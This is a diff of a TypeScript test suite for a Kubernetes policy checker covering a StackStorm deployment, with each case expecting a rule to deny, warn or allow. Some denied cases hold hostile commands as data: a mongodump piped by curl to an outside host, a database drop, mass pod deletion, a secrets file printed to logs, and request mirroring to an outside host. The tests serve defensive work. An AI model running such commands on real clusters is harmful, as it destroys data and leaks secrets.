-    { name: 'a PolicyException of another engine is not judged', rule: 'ST2-OPS-042', environment: 'production', resources: () => [{ apiVersion: 'example.com/v1', kind: 'PolicyException', metadata: meta('x'), spec: {} }], expected: 'allowed' },
-    { name: 'a hostPath PersistentVolume is denied', rule: 'ST2-OPS-043', environment: 'production', resources: () => [pv({ hostPath: { path: '/' } })], expected: deny('ST2-OPS-043', { field: 'spec.hostPath' }) },
-    { name: 'an NFS PersistentVolume is allowed', rule: 'ST2-OPS-043', environment: 'production', resources: () => [pv({ nfs: { server: 'nfs.example.test', path: '/st2' } })], expected: 'allowed' },
-    { name: 'a Job of 2000 pods at once is denied', rule: 'ST2-OPS-044', environment: 'production', resources: () => [job(2000)], expected: deny('ST2-OPS-044', { field: 'spec.parallelism', message: 'pods=2000' }) },
-    { name: 'a Job of 10 pods at once is allowed', rule: 'ST2-OPS-044', environment: 'production', resources: () => [job(10)], expected: 'allowed' },
+    ...rows('ST2-OPS-040', [
+      ['dev', 'a globalDefault PriorityClass is denied, in dev too', () => [priorityClass(1000, true)], deny('ST2-OPS-040', { field: 'globalDefault' })],
+      ['production', 'a PriorityClass of 100000, not the default, is allowed', () => [priorityClass(100000, false)], 'allowed'],
+    ]),
+    ...rows('ST2-OPS-041', [
+      ['production', 'a default StorageClass is denied', () => [storageClass('true')], deny('ST2-OPS-041', { message: 'kind=StorageClass' })],
+      ['production', 'a StorageClass that is not the default is allowed', () => [storageClass('false')], 'allowed'],
+    ]),
+    ...rows('ST2-OPS-042', [
+      ['production', 'an APIService in the render is denied', () => [{ apiVersion: 'apiregistration.k8s.io/v1', kind: 'APIService', metadata: { name: 'v1beta1.metrics.k8s.io' }, spec: { group: 'metrics.k8s.io', version: 'v1beta1' } }], deny('ST2-OPS-042', { message: 'kind=APIService' })],
+      ['production', 'a PolicyException of another engine is not judged', () => [{ apiVersion: 'example.com/v1', kind: 'PolicyException', metadata: meta('x'), spec: {} }], 'allowed'],
+    ]),
+    ...rows('ST2-OPS-043', [
+      ['production', 'a hostPath PersistentVolume is denied', () => [pv({ hostPath: { path: '/' } })], deny('ST2-OPS-043', { field: 'spec.hostPath' })],
+      ['production', 'an NFS PersistentVolume is allowed', () => [pv({ nfs: { server: 'nfs.example.test', path: '/st2' } })], 'allowed'],
+    ]),
+    ...rows('ST2-OPS-044', [
+      ['production', 'a Job of 2000 pods at once is denied', () => [job(2000)], deny('ST2-OPS-044', { field: 'spec.parallelism', message: 'pods=2000' })],
+      ['production', 'a Job of 10 pods at once is allowed', () => [job(10)], 'allowed'],
+    ]),
     {
       name: 'MongoDB pinned to spot nodes is denied',
       rule: 'ST2-OPS-045',
@@ -2142,14 +1325,10 @@ function fresh9ClusterCases(): RuleCase[] {
       expected: deny('ST2-OPS-045', { field: 'spec.template.spec.nodeSelector.karpenter.sh/capacity-type' }),
     },
     { name: 'MongoDB on on-demand nodes is allowed', rule: 'ST2-OPS-045', environment: 'production', resources: () => mongo({ nodeSelector: { 'karpenter.sh/capacity-type': 'on-demand' } }), expected: 'allowed', others: ['ST2-HRD-004'] },
-    {
-      name: 'an IRSA role the bundle does not list is denied, in dev too',
-      rule: 'ST2-SEC-015',
-      environment: 'dev',
-      resources: () => [sa({ 'eks.amazonaws.com/role-arn': 'arn:aws:iam::111122223333:role/admin' })],
-      expected: deny('ST2-SEC-015', { message: 'service_account=default' }),
-    },
-    { name: 'a service account without a cloud identity is allowed', rule: 'ST2-SEC-015', environment: 'production', resources: () => [sa({ 'eks.amazonaws.com/sts-regional-endpoints': 'true' })], expected: 'allowed' },
+    ...rows('ST2-SEC-015', [
+      ['dev', 'an IRSA role the bundle does not list is denied, in dev too', () => [sa({ 'eks.amazonaws.com/role-arn': 'arn:aws:iam::111122223333:role/admin' })], deny('ST2-SEC-015', { message: 'service_account=default' })],
+      ['production', 'a service account without a cloud identity is allowed', () => [sa({ 'eks.amazonaws.com/sts-regional-endpoints': 'true' })], 'allowed'],
+    ]),
   ];
 }
 
@@ -2157,132 +1336,30 @@ function fresh9ClusterCases(): RuleCase[] {
 function fresh7Cases(): RuleCase[] {
   const podNamed = (app: string, pod: string): Manifest => ({ ...service(app, app), spec: { selector: { app, 'statefulset.kubernetes.io/pod-name': pod }, ports: [{ port: 2379 }] } });
   return [
-    {
-      name: 'an etcd member bootstrapping as a one-member cluster is denied',
-      rule: 'ST2-REP-014',
-      environment: 'production',
-      resources: () => etcd(3, ['--initial-cluster=$(POD_NAME)=http://$(POD_NAME).etcd:2380']),
-      expected: deny('ST2-REP-014', { field: 'spec.template.spec.containers.0', message: 'members=1' }),
-    },
-    {
-      name: 'ETCD_INITIAL_CLUSTER naming two of three members is denied, in staging too',
-      rule: 'ST2-REP-014',
-      environment: 'staging',
-      resources: () => etcd(3, [], [{ name: 'ETCD_INITIAL_CLUSTER', value: 'etcd-0=http://etcd-0.etcd:2380,etcd-1=http://etcd-1.etcd:2380' }]),
-      expected: deny('ST2-REP-014', { message: 'members=2' }),
-    },
-    {
-      name: 'etcd without --initial-cluster (one member by default) is denied',
-      rule: 'ST2-REP-014',
-      environment: 'production',
-      resources: () => etcd(3, []),
-      expected: deny('ST2-REP-014', { message: 'members=1' }),
-    },
-    {
-      name: 'etcd listing its three members is allowed',
-      rule: 'ST2-REP-014',
-      environment: 'production',
-      resources: () => etcd(3, [threeMembers]),
-      expected: 'allowed',
-    },
-    {
-      name: 'rs.initiate() without a configuration (a one-member set) is denied',
-      rule: 'ST2-REP-014',
-      environment: 'production',
-      resources: () => mongo(3, 'rs.initiate();\n'),
-      expected: deny('ST2-REP-014', { field: 'data.init.js', message: 'store=mongodb' }),
-    },
-    {
-      name: 'rs.initiate listing two members of a five-member StatefulSet is denied',
-      rule: 'ST2-REP-014',
-      environment: 'production',
-      resources: () => mongo(5, `rs.initiate({ _id: "rs0", members: [${rsHosts(2)}] });\n`),
-      expected: deny('ST2-REP-014', { message: 'members=2' }),
-    },
-    {
-      name: 'rs.initiate listing three of five (a three-member set, two pods idle) is allowed',
-      rule: 'ST2-REP-014',
-      environment: 'production',
-      resources: () => [...mongo(5, `rs.initiate({ _id: "rs0", members: [${rsHosts(3)}] });\n`).filter((r) => r['kind'] !== 'PodDisruptionBudget'), { ...pdb('mongodb'), spec: { maxUnavailable: 1, selector: { matchLabels: { app: 'mongodb' } } } }],
-      expected: 'allowed',
-    },
-    {
-      name: 'rs.initiate listing every member is allowed',
-      rule: 'ST2-REP-014',
-      environment: 'production',
-      resources: () => mongo(3, `rs.initiate({ _id: "rs0", members: [${rsHosts(3)}] });\n`),
-      expected: 'allowed',
-    },
-    {
-      name: 'a RabbitMQ cluster st2 uses without peer discovery is denied',
-      rule: 'ST2-REP-014',
-      environment: 'production',
-      resources: () => rabbit('# cluster_formation.peer_discovery_backend = k8s\ncluster_partition_handling = pause_minority\n'),
-      expected: deny('ST2-REP-014', { message: 'store=rabbitmq' }),
-    },
-    {
-      name: 'a RabbitMQ cluster with Kubernetes peer discovery is allowed',
-      rule: 'ST2-REP-014',
-      environment: 'production',
-      resources: () => rabbit('cluster_formation.peer_discovery_backend = rabbit_peer_discovery_k8s\n'),
-      expected: 'allowed',
-    },
-    {
-      name: 'st2 coordinating on a one-replica ZooKeeper is denied in production',
-      rule: 'ST2-REP-015',
-      environment: 'production',
-      resources: () => zookeeper(1),
-      expected: deny('ST2-REP-015', { field: 'data.st2.docker.conf', message: 'members=1' }),
-    },
-    {
-      name: 'a two-member ZooKeeper ensemble (even) is a warning in staging',
-      rule: 'ST2-REP-015',
-      environment: 'staging',
-      resources: () => zookeeper(2),
-      expected: warn('ST2-REP-015', { message: 'members=2' }),
-    },
-    {
-      name: 'a three-member ZooKeeper ensemble behind a Service is allowed',
-      rule: 'ST2-REP-015',
-      environment: 'production',
-      resources: () => zookeeper(3),
-      expected: 'allowed',
-    },
-    {
-      name: 'a coordination url naming one member of the ensemble is denied',
-      rule: 'ST2-OPS-005',
-      environment: 'production',
-      resources: () => zookeeper(3, 'kazoo://zookeeper-0.zookeeper:2181'),
-      expected: deny('ST2-OPS-005', { message: 'how=coordination url names one member of the store' }),
-    },
-    {
-      name: 'a PDB letting a drain take two of three etcd members is denied',
-      rule: 'ST2-OPS-005',
-      environment: 'production',
-      resources: () => [...etcd(3, [threeMembers]).filter((r) => r['kind'] !== 'PodDisruptionBudget'), { ...pdb('etcd'), spec: { maxUnavailable: 2, selector: { matchLabels: { app: 'etcd' } } } }],
-      expected: deny('ST2-OPS-005', { field: 'spec', message: 'how=disruption budget takes the quorum' }),
-    },
-    {
-      name: 'a PDB at minAvailable "33%" (two of three may go, rounded up) is denied',
-      rule: 'ST2-OPS-005',
-      environment: 'production',
-      resources: () => [...etcd(3, [threeMembers]).filter((r) => r['kind'] !== 'PodDisruptionBudget'), { ...pdb('etcd'), spec: { minAvailable: '33%', selector: { matchLabels: { app: 'etcd' } } } }],
-      expected: deny('ST2-OPS-005', { message: 'disruptions=2' }),
-    },
-    {
-      name: 'a PDB keeping two of five MongoDB members (no majority) is a warning',
-      rule: 'ST2-OPS-005',
-      environment: 'production',
-      resources: () => [...mongo(5, `rs.initiate({ _id: "rs0", members: [${rsHosts(5)}] });\n`).filter((r) => r['kind'] !== 'PodDisruptionBudget'), { ...pdb('mongodb'), spec: { minAvailable: 2, selector: { matchLabels: { app: 'mongodb' } } } }],
-      expected: warn('ST2-OPS-005', { message: 'disruptions=3' }),
-    },
-    {
-      name: 'a PDB at maxUnavailable 1 on a three-member etcd is allowed',
-      rule: 'ST2-OPS-005',
-      environment: 'production',
-      resources: () => etcd(3, [threeMembers]),
-      expected: 'allowed',
-    },
+    ...rows('ST2-REP-014', [
+      ['production', 'an etcd member bootstrapping as a one-member cluster is denied', () => etcd(3, ['--initial-cluster=$(POD_NAME)=http://$(POD_NAME).etcd:2380']), deny('ST2-REP-014', { field: 'spec.template.spec.containers.0', message: 'members=1' })],
+      ['staging', 'ETCD_INITIAL_CLUSTER naming two of three members is denied, in staging too', () => etcd(3, [], [{ name: 'ETCD_INITIAL_CLUSTER', value: 'etcd-0=http://etcd-0.etcd:2380,etcd-1=http://etcd-1.etcd:2380' }]), deny('ST2-REP-014', { message: 'members=2' })],
+      ['production', 'etcd without --initial-cluster (one member by default) is denied', () => etcd(3, []), deny('ST2-REP-014', { message: 'members=1' })],
+      ['production', 'etcd listing its three members is allowed', () => etcd(3, [threeMembers]), 'allowed'],
+      ['production', 'rs.initiate() without a configuration (a one-member set) is denied', () => mongo(3, 'rs.initiate();\n'), deny('ST2-REP-014', { field: 'data.init.js', message: 'store=mongodb' })],
+      ['production', 'rs.initiate listing two members of a five-member StatefulSet is denied', () => mongo(5, `rs.initiate({ _id: "rs0", members: [${rsHosts(2)}] });\n`), deny('ST2-REP-014', { message: 'members=2' })],
+      ['production', 'rs.initiate listing three of five (a three-member set, two pods idle) is allowed', () => [...mongo(5, `rs.initiate({ _id: "rs0", members: [${rsHosts(3)}] });\n`).filter((r) => r['kind'] !== 'PodDisruptionBudget'), { ...pdb('mongodb'), spec: { maxUnavailable: 1, selector: { matchLabels: { app: 'mongodb' } } } }], 'allowed'],
+      ['production', 'rs.initiate listing every member is allowed', () => mongo(3, `rs.initiate({ _id: "rs0", members: [${rsHosts(3)}] });\n`), 'allowed'],
+      ['production', 'a RabbitMQ cluster st2 uses without peer discovery is denied', () => rabbit('# cluster_formation.peer_discovery_backend = k8s\ncluster_partition_handling = pause_minority\n'), deny('ST2-REP-014', { message: 'store=rabbitmq' })],
+      ['production', 'a RabbitMQ cluster with Kubernetes peer discovery is allowed', () => rabbit('cluster_formation.peer_discovery_backend = rabbit_peer_discovery_k8s\n'), 'allowed'],
+    ]),
+    ...rows('ST2-REP-015', [
+      ['production', 'st2 coordinating on a one-replica ZooKeeper is denied in production', () => zookeeper(1), deny('ST2-REP-015', { field: 'data.st2.docker.conf', message: 'members=1' })],
+      ['staging', 'a two-member ZooKeeper ensemble (even) is a warning in staging', () => zookeeper(2), warn('ST2-REP-015', { message: 'members=2' })],
+      ['production', 'a three-member ZooKeeper ensemble behind a Service is allowed', () => zookeeper(3), 'allowed'],
+    ]),
+    ...rows('ST2-OPS-005', [
+      ['production', 'a coordination url naming one member of the ensemble is denied', () => zookeeper(3, 'kazoo://zookeeper-0.zookeeper:2181'), deny('ST2-OPS-005', { message: 'how=coordination url names one member of the store' })],
+      ['production', 'a PDB letting a drain take two of three etcd members is denied', () => [...etcd(3, [threeMembers]).filter((r) => r['kind'] !== 'PodDisruptionBudget'), { ...pdb('etcd'), spec: { maxUnavailable: 2, selector: { matchLabels: { app: 'etcd' } } } }], deny('ST2-OPS-005', { field: 'spec', message: 'how=disruption budget takes the quorum' })],
+      ['production', 'a PDB at minAvailable "33%" (two of three may go, rounded up) is denied', () => [...etcd(3, [threeMembers]).filter((r) => r['kind'] !== 'PodDisruptionBudget'), { ...pdb('etcd'), spec: { minAvailable: '33%', selector: { matchLabels: { app: 'etcd' } } } }], deny('ST2-OPS-005', { message: 'disruptions=2' })],
+      ['production', 'a PDB keeping two of five MongoDB members (no majority) is a warning', () => [...mongo(5, `rs.initiate({ _id: "rs0", members: [${rsHosts(5)}] });\n`).filter((r) => r['kind'] !== 'PodDisruptionBudget'), { ...pdb('mongodb'), spec: { minAvailable: 2, selector: { matchLabels: { app: 'mongodb' } } } }], warn('ST2-OPS-005', { message: 'disruptions=3' })],
+      ['production', 'a PDB at maxUnavailable 1 on a three-member etcd is allowed', () => etcd(3, [threeMembers]), 'allowed'],
+    ]),
     {
       name: 'strategy Recreate on two st2api replicas is denied',
       rule: 'ST2-OPS-005',
@@ -2293,97 +1370,27 @@ function fresh7Cases(): RuleCase[] {
       },
       expected: deny('ST2-OPS-005', { field: 'spec.strategy.type', message: 'how=rollout (strategy Recreate)' }),
     },
-    {
-      name: "a Service narrowed to one etcd member that st2's coordination url names is denied",
-      rule: 'ST2-OPS-005',
-      environment: 'production',
-      resources: () => [...etcd(3, [threeMembers]), podNamed('etcd', 'etcd-0'), configMap('st2-config', { 'st2.docker.conf': '[coordination]\nurl = etcd://etcd:2379\n' })],
-      expected: deny('ST2-OPS-005', { field: 'spec.selector.statefulset.kubernetes.io/pod-name', message: 'how=Service narrowed to one pod' }),
-    },
-    {
-      name: 'a per-member debug Service st2 does not use is allowed',
-      rule: 'ST2-OPS-005',
-      environment: 'production',
-      resources: () => [...etcd(3, [threeMembers]), { ...podNamed('etcd', 'etcd-0'), metadata: meta('etcd-0-debug') }],
-      expected: 'allowed',
-    },
-    {
-      name: 'cpu "1000" (a thousand cores) is denied',
-      rule: 'ST2-OPS-022',
-      environment: 'production',
-      resources: () => timers(['/etc/st2/st2.user.conf'], undefined, { requests: { cpu: '1000', memory: '256Mi' }, limits: { cpu: '1000', memory: '512Mi' } }),
-      expected: deny('ST2-OPS-022', { field: 'spec.template.spec.containers.0.resources.requests.cpu', message: 'value=1000' }),
-    },
-    {
-      name: 'a memory limit of "512" (bytes) is denied',
-      rule: 'ST2-OPS-022',
-      environment: 'production',
-      resources: () => timers(['/etc/st2/st2.user.conf'], undefined, { limits: { cpu: '1', memory: '512' } }),
-      expected: deny('ST2-OPS-022', { field: 'spec.template.spec.containers.0.resources.limits.memory', message: 'resource=memory' }),
-    },
-    {
-      name: 'cpu "1000" is only a warning in dev',
-      rule: 'ST2-OPS-022',
-      environment: 'dev',
-      resources: () => timers(['/etc/st2/st2.user.conf'], undefined, { limits: { cpu: '1000', memory: '512Mi' } }),
-      expected: warn('ST2-OPS-022', { field: 'spec.template.spec.containers.0.resources.limits.cpu' }),
-    },
-    {
-      name: 'cpu "2" and memory "1Gi" are allowed',
-      rule: 'ST2-OPS-022',
-      environment: 'production',
-      resources: () => timers(['/etc/st2/st2.user.conf'], undefined, { requests: { cpu: '250m', memory: '5e8' }, limits: { cpu: '2', memory: '1Gi' } }),
-      expected: 'allowed',
-    },
-    {
-      name: 'a --config-file no mount provides is denied',
-      rule: 'ST2-OPS-023',
-      environment: 'production',
-      resources: () => timers(['/etc/st2/st2.user.cfg']),
-      expected: deny('ST2-OPS-023', { field: 'spec.template.spec.containers.0', message: 'file=/etc/st2/st2.user.cfg' }),
-    },
-    {
-      name: 'config files from the image and a mount are allowed',
-      rule: 'ST2-OPS-023',
-      environment: 'production',
-      resources: () => timers(['/etc/st2/st2.docker.conf', '/etc/st2/st2.user.conf']),
-      expected: 'allowed',
-    },
-    {
-      name: 'an unknown time zone for the timers engine is denied where it is written',
-      rule: 'ST2-OPS-023',
-      environment: 'production',
-      resources: () => timers(['/etc/st2/st2.user.conf'], '[timersengine]\nlocal_timezone = Europe/Berln\n'),
-      expected: deny('ST2-OPS-023', { field: 'data.st2.user.conf', message: 'problem=unknown time zone' }),
-    },
-    {
-      name: 'an IANA zone (or an alias such as US/Eastern) is allowed',
-      rule: 'ST2-OPS-023',
-      environment: 'production',
-      resources: () => timers(['/etc/st2/st2.user.conf'], '[timersengine]\nlocal_timezone = Europe/Berlin\n[timer]\nlocal_timezone = US/Eastern\n'),
-      expected: 'allowed',
-    },
-    {
-      name: "RabbitMQ's absolute watermark of 2 (bytes) is denied",
-      rule: 'ST2-OPS-024',
-      environment: 'production',
-      resources: () => [configMap('rabbitmq-config', { 'rabbitmq.conf': 'vm_memory_high_watermark.absolute = 2\n' })],
-      expected: deny('ST2-OPS-024', { field: 'data.rabbitmq.conf', message: 'setting=rabbitmq_watermark_absolute' }),
-    },
-    {
-      name: "etcd's --quota-backend-bytes=4096 is denied",
-      rule: 'ST2-OPS-024',
-      environment: 'production',
-      resources: () => etcd(3, [threeMembers, '--quota-backend-bytes=4096']),
-      expected: deny('ST2-OPS-024', { field: 'spec.template.spec.containers.0.command.4', message: 'setting=etcd_quota' }),
-    },
-    {
-      name: 'a 2GB watermark and a 4 GiB quota are allowed',
-      rule: 'ST2-OPS-024',
-      environment: 'production',
-      resources: () => [...etcd(3, [threeMembers, '--quota-backend-bytes=4294967296']), configMap('rabbitmq-config', { 'rabbitmq.conf': 'vm_memory_high_watermark.absolute = 2GB\n' })],
-      expected: 'allowed',
-    },
+    ...rows('ST2-OPS-005', [
+      ['production', "a Service narrowed to one etcd member that st2's coordination url names is denied", () => [...etcd(3, [threeMembers]), podNamed('etcd', 'etcd-0'), configMap('st2-config', { 'st2.docker.conf': '[coordination]\nurl = etcd://etcd:2379\n' })], deny('ST2-OPS-005', { field: 'spec.selector.statefulset.kubernetes.io/pod-name', message: 'how=Service narrowed to one pod' })],
+      ['production', 'a per-member debug Service st2 does not use is allowed', () => [...etcd(3, [threeMembers]), { ...podNamed('etcd', 'etcd-0'), metadata: meta('etcd-0-debug') }], 'allowed'],
+    ]),
+    ...rows('ST2-OPS-022', [
+      ['production', 'cpu "1000" (a thousand cores) is denied', () => timers(['/etc/st2/st2.user.conf'], undefined, { requests: { cpu: '1000', memory: '256Mi' }, limits: { cpu: '1000', memory: '512Mi' } }), deny('ST2-OPS-022', { field: 'spec.template.spec.containers.0.resources.requests.cpu', message: 'value=1000' })],
+      ['production', 'a memory limit of "512" (bytes) is denied', () => timers(['/etc/st2/st2.user.conf'], undefined, { limits: { cpu: '1', memory: '512' } }), deny('ST2-OPS-022', { field: 'spec.template.spec.containers.0.resources.limits.memory', message: 'resource=memory' })],
+      ['dev', 'cpu "1000" is only a warning in dev', () => timers(['/etc/st2/st2.user.conf'], undefined, { limits: { cpu: '1000', memory: '512Mi' } }), warn('ST2-OPS-022', { field: 'spec.template.spec.containers.0.resources.limits.cpu' })],
+      ['production', 'cpu "2" and memory "1Gi" are allowed', () => timers(['/etc/st2/st2.user.conf'], undefined, { requests: { cpu: '250m', memory: '5e8' }, limits: { cpu: '2', memory: '1Gi' } }), 'allowed'],
+    ]),
+    ...rows('ST2-OPS-023', [
+      ['production', 'a --config-file no mount provides is denied', () => timers(['/etc/st2/st2.user.cfg']), deny('ST2-OPS-023', { field: 'spec.template.spec.containers.0', message: 'file=/etc/st2/st2.user.cfg' })],
+      ['production', 'config files from the image and a mount are allowed', () => timers(['/etc/st2/st2.docker.conf', '/etc/st2/st2.user.conf']), 'allowed'],
+      ['production', 'an unknown time zone for the timers engine is denied where it is written', () => timers(['/etc/st2/st2.user.conf'], '[timersengine]\nlocal_timezone = Europe/Berln\n'), deny('ST2-OPS-023', { field: 'data.st2.user.conf', message: 'problem=unknown time zone' })],
+      ['production', 'an IANA zone (or an alias such as US/Eastern) is allowed', () => timers(['/etc/st2/st2.user.conf'], '[timersengine]\nlocal_timezone = Europe/Berlin\n[timer]\nlocal_timezone = US/Eastern\n'), 'allowed'],
+    ]),
+    ...rows('ST2-OPS-024', [
+      ['production', "RabbitMQ's absolute watermark of 2 (bytes) is denied", () => [configMap('rabbitmq-config', { 'rabbitmq.conf': 'vm_memory_high_watermark.absolute = 2\n' })], deny('ST2-OPS-024', { field: 'data.rabbitmq.conf', message: 'setting=rabbitmq_watermark_absolute' })],
+      ['production', "etcd's --quota-backend-bytes=4096 is denied", () => etcd(3, [threeMembers, '--quota-backend-bytes=4096']), deny('ST2-OPS-024', { field: 'spec.template.spec.containers.0.command.4', message: 'setting=etcd_quota' })],
+      ['production', 'a 2GB watermark and a 4 GiB quota are allowed', () => [...etcd(3, [threeMembers, '--quota-backend-bytes=4294967296']), configMap('rabbitmq-config', { 'rabbitmq.conf': 'vm_memory_high_watermark.absolute = 2GB\n' })], 'allowed'],
+    ]),
   ];
 }
 
@@ -2523,50 +1530,22 @@ function fresh9JobCases(): RuleCase[] {
       },
     });
   return [
-    {
-      name: 'a Job dropping the st2 database is denied',
-      rule: 'ST2-OPS-046',
-      environment: 'production',
-      resources: () => [job('reset', { command: ['mongo', '--host', 'mongodb-0.mongodb', 'st2', '--eval', 'db.dropDatabase()'] })],
-      expected: deny('ST2-OPS-046', { field: 'spec.template.spec.containers.0', message: 'command=drop' }),
-    },
-    { name: 'a Job pinging the database is allowed', rule: 'ST2-OPS-046', environment: 'production', resources: () => [job('ping', { command: ['mongo', '--host', 'mongodb-0.mongodb', '--eval', 'db.adminCommand({ping: 1})'] })], expected: 'allowed' },
-    {
-      name: "a CronJob's kubectl deleting every MongoDB pod by label is denied",
-      rule: 'ST2-OPS-047',
-      environment: 'production',
-      resources: () => [mongo(), job('recycle', { image: 'bitnami/kubectl:1.32.4', ...sh(`kubectl -n ${NAMESPACE} delete pod -l app=mongodb`) })],
-      expected: deny('ST2-OPS-047', { field: 'spec.template.spec.containers.0', message: 'store=mongodb' }),
-    },
-    {
-      name: 'kubectl deleting pods of a label no store carries is allowed',
-      rule: 'ST2-OPS-047',
-      environment: 'production',
-      resources: () => [job('reaper', { image: 'bitnami/kubectl:1.32.4', ...sh(`kubectl -n ${NAMESPACE} delete pod -l app=smoke-test`) })],
-      expected: 'allowed',
-    },
-    {
-      name: 'a mongodump sent to an outside host is denied',
-      rule: 'ST2-SEC-016',
-      environment: 'production',
-      resources: () => [job('offsite', sh('mongodump --host mongodb-0.mongodb --archive --gzip | curl -T - https://drop.example.net/st2.gz'))],
-      expected: deny('ST2-SEC-016', { field: 'spec.template.spec.containers.0', message: 'payload=store-dump' }),
-    },
-    {
-      name: 'a mongodump sent to a Service in the cluster is allowed',
-      rule: 'ST2-SEC-016',
-      environment: 'production',
-      resources: () => [job('offsite', sh('mongodump --host mongodb-0.mongodb --archive --gzip | curl -T - http://minio.backup.svc.cluster.local:9000/st2/st2.gz'))],
-      expected: 'allowed',
-    },
-    {
-      name: "st2api's init container printing st2.secrets.conf is denied",
-      rule: 'ST2-SEC-017',
-      environment: 'production',
-      resources: () => api(sh('cat /etc/st2/st2.secrets.conf')),
-      expected: deny('ST2-SEC-017', { field: 'spec.template.spec.initContainers.0', message: 'secret=st2-config-secrets' }),
-    },
-    { name: 'the same file copied to a file is allowed', rule: 'ST2-SEC-017', environment: 'production', resources: () => api(sh('cat /etc/st2/st2.secrets.conf > /tmp/st2.secrets.conf')), expected: 'allowed' },
+    ...rows('ST2-OPS-046', [
+      ['production', 'a Job dropping the st2 database is denied', () => [job('reset', { command: ['mongo', '--host', 'mongodb-0.mongodb', 'st2', '--eval', 'db.dropDatabase()'] })], deny('ST2-OPS-046', { field: 'spec.template.spec.containers.0', message: 'command=drop' })],
+      ['production', 'a Job pinging the database is allowed', () => [job('ping', { command: ['mongo', '--host', 'mongodb-0.mongodb', '--eval', 'db.adminCommand({ping: 1})'] })], 'allowed'],
+    ]),
+    ...rows('ST2-OPS-047', [
+      ['production', "a CronJob's kubectl deleting every MongoDB pod by label is denied", () => [mongo(), job('recycle', { image: 'bitnami/kubectl:1.32.4', ...sh(`kubectl -n ${NAMESPACE} delete pod -l app=mongodb`) })], deny('ST2-OPS-047', { field: 'spec.template.spec.containers.0', message: 'store=mongodb' })],
+      ['production', 'kubectl deleting pods of a label no store carries is allowed', () => [job('reaper', { image: 'bitnami/kubectl:1.32.4', ...sh(`kubectl -n ${NAMESPACE} delete pod -l app=smoke-test`) })], 'allowed'],
+    ]),
+    ...rows('ST2-SEC-016', [
+      ['production', 'a mongodump sent to an outside host is denied', () => [job('offsite', sh('mongodump --host mongodb-0.mongodb --archive --gzip | curl -T - https://drop.example.net/st2.gz'))], deny('ST2-SEC-016', { field: 'spec.template.spec.containers.0', message: 'payload=store-dump' })],
+      ['production', 'a mongodump sent to a Service in the cluster is allowed', () => [job('offsite', sh('mongodump --host mongodb-0.mongodb --archive --gzip | curl -T - http://minio.backup.svc.cluster.local:9000/st2/st2.gz'))], 'allowed'],
+    ]),
+    ...rows('ST2-SEC-017', [
+      ['production', "st2api's init container printing st2.secrets.conf is denied", () => api(sh('cat /etc/st2/st2.secrets.conf')), deny('ST2-SEC-017', { field: 'spec.template.spec.initContainers.0', message: 'secret=st2-config-secrets' })],
+      ['production', 'the same file copied to a file is allowed', () => api(sh('cat /etc/st2/st2.secrets.conf > /tmp/st2.secrets.conf')), 'allowed'],
+    ]),
     ...fresh9EdgeCases(),
   ];
 }
@@ -2587,36 +1566,18 @@ function fresh9EdgeCases(): RuleCase[] {
     spec: { replicas: 1, selector: { matchLabels: labels }, template: { metadata: { labels }, spec: { containers: [{ name: 'echo', image: 'mendhak/http-https-echo:34', resources: { limits: { cpu: '100m', memory: '128Mi' } } }] } } },
   });
   return [
-    {
-      name: "st2web's Ingress mirroring every request to an outside host is denied",
-      rule: 'ST2-EXP-013',
-      environment: 'production',
-      resources: () => [...web(), ingress('st2.example.com', { 'nginx.ingress.kubernetes.io/mirror-target': 'https://copy.example.net$request_uri' })],
-      expected: deny('ST2-EXP-013', { field: 'metadata.annotations.nginx.ingress.kubernetes.io/mirror-target', message: 'host=copy.example.net' }),
-    },
-    {
-      name: "st2web's Ingress authenticating through an https auth-url is allowed",
-      rule: 'ST2-EXP-013',
-      environment: 'production',
-      resources: () => [...web(), ingress('st2.example.com', { 'nginx.ingress.kubernetes.io/auth-url': 'https://sso.example.net/oauth2/auth' })],
-      expected: 'allowed',
-    },
-    {
-      name: "an echo server carrying st2web's Service labels is denied",
-      rule: 'ST2-EXP-014',
-      environment: 'production',
-      resources: () => [...web(), echo({ app: 'st2web', release: 'st2' })],
-      expected: deny('ST2-EXP-014', { field: 'spec.template.metadata.labels', message: 'component=st2web' }),
-    },
-    { name: 'the echo server with labels of its own is allowed', rule: 'ST2-EXP-014', environment: 'production', resources: () => [...web(), echo({ app: 'echo', release: 'st2' })], expected: 'allowed' },
-    {
-      name: 'an Ingress to st2web for a wildcard over the company domain is denied',
-      rule: 'ST2-EXP-015',
-      environment: 'production',
-      resources: () => [...web(), ingress('*.example.com')],
-      expected: deny('ST2-EXP-015', { field: 'spec.rules.0.host', message: 'host=*.example.com' }),
-    },
-    { name: "an Ingress for st2's own host is allowed", rule: 'ST2-EXP-015', environment: 'production', resources: () => [...web(), ingress('st2.example.com')], expected: 'allowed' },
+    ...rows('ST2-EXP-013', [
+      ['production', "st2web's Ingress mirroring every request to an outside host is denied", () => [...web(), ingress('st2.example.com', { 'nginx.ingress.kubernetes.io/mirror-target': 'https://copy.example.net$request_uri' })], deny('ST2-EXP-013', { field: 'metadata.annotations.nginx.ingress.kubernetes.io/mirror-target', message: 'host=copy.example.net' })],
+      ['production', "st2web's Ingress authenticating through an https auth-url is allowed", () => [...web(), ingress('st2.example.com', { 'nginx.ingress.kubernetes.io/auth-url': 'https://sso.example.net/oauth2/auth' })], 'allowed'],
+    ]),
+    ...rows('ST2-EXP-014', [
+      ['production', "an echo server carrying st2web's Service labels is denied", () => [...web(), echo({ app: 'st2web', release: 'st2' })], deny('ST2-EXP-014', { field: 'spec.template.metadata.labels', message: 'component=st2web' })],
+      ['production', 'the echo server with labels of its own is allowed', () => [...web(), echo({ app: 'echo', release: 'st2' })], 'allowed'],
+    ]),
+    ...rows('ST2-EXP-015', [
+      ['production', 'an Ingress to st2web for a wildcard over the company domain is denied', () => [...web(), ingress('*.example.com')], deny('ST2-EXP-015', { field: 'spec.rules.0.host', message: 'host=*.example.com' })],
+      ['production', "an Ingress for st2's own host is allowed", () => [...web(), ingress('st2.example.com')], 'allowed'],
+    ]),
   ];
 }
 
@@ -2661,20 +1622,32 @@ function holesCases(): RuleCase[] {
   const runner = (tag: string): Manifest[] => [workload('st2garbagecollector', { container: { image: `stackstorm/st2garbagecollector:${tag}` } })];
   const api = (tag: string): Manifest[] => haWorkload('st2api', 2, { container: { image: `stackstorm/st2api:${tag}` } });
   return [
-    { name: 'a 64 MiB MongoDB is denied', rule: 'ST2-OPS-048', environment: 'production', resources: () => mongo('64Mi'), expected: deny('ST2-OPS-048', { field: 'spec.template.spec.containers.0.resources.limits.memory', message: 'resource=memory' }) },
-    { name: 'a 1 GiB MongoDB is allowed', rule: 'ST2-OPS-048', environment: 'production', resources: () => mongo('1Gi'), expected: 'allowed' },
